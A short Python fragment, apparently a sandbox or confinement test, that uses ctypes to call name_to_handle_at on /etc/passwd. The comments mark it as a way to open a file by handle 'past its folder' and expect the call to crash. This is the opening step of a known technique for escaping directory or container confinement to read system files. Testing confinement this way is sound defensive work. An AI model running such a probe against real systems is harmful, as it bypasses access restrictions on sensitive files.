# Opens a file by its handle, past its folder.
# must: crashed
# with: raw, right
handle = (ctypes.c_uint32 * 40)(128)
mount = ctypes.c_int()
call("name_to_handle_at", -100, ctypes.c_char_p(b"/etc/passwd"), handle, ctypes.byref(mount), 0)
